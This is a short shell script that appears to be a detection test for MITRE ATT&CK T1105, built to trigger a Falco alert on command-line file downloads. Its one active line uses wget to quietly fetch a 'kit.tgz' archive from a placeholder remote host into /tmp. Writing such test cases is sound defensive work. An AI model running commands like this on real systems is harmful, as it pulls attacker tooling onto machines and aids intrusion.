#!/bin/sh
# title: Tool downloaded with wget (ingress tool transfer)
# technique: T1105 Ingress Tool Transfer
# source: https://attack.mitre.org/techniques/T1105/ ; Falco "Launch Ingress Remote File Copy Tools in Container"
# expect: File downloaded with a command-line tool
/bin/wget -q -O /tmp/kit.tgz http://198.51.100.1:8000/kit.tgz
true
